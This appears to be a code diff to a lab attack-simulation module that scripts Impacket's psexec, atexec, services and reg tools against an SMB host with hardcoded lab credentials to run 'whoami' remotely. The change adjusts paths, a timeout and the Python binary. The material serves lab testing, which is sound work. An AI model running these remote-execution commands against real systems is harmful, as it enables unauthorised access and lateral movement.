@@ -57,15 +57,17 @@ export const smbSpread: Attack = {
   }
 };
 
+/** Where Debian's python3-impacket has its programs; they want Debian's own Python. */
+const impacket = "/usr/share/doc/python3-impacket/examples";
+
 /** Remote execution as PsExec does it, by Impacket: pipes of services and tasks; the lab's server refuses them late. */
 export const psexec: Attack = {
   label: "Infiltration",
   tool: "impacket",
-  needs: ["python3"],
+  needs: [`${impacket}/psexec.py`],
   against: ["smb"],
   plan({endpoints, random}) {
     const {address} = endpoints.smb!;
-    const examples = "/usr/share/doc/python3-impacket/examples";
     const each = random
       .shuffled([
         "psexec.py",
@@ -82,7 +84,7 @@ export const psexec: Attack = {
           {"services.py": "list", "reg.py": "query -keyName HKLM", "atexec.py": "whoami", "psexec.py": "whoami"}[
             name
           ] ?? "";
-        return `timeout 6 python3 ${examples}/${name} lab/admin:Passw0rd@${address} ${rest} </dev/null`;
+        return `timeout 8 /usr/bin/python3 ${impacket}/${name} lab/admin:Passw0rd@${address} ${rest} </dev/null`;
       });
     return {commands: [["sh", "-c", each.join("; sleep 0.7; ")]], seconds: 60, to: [address]};
   }
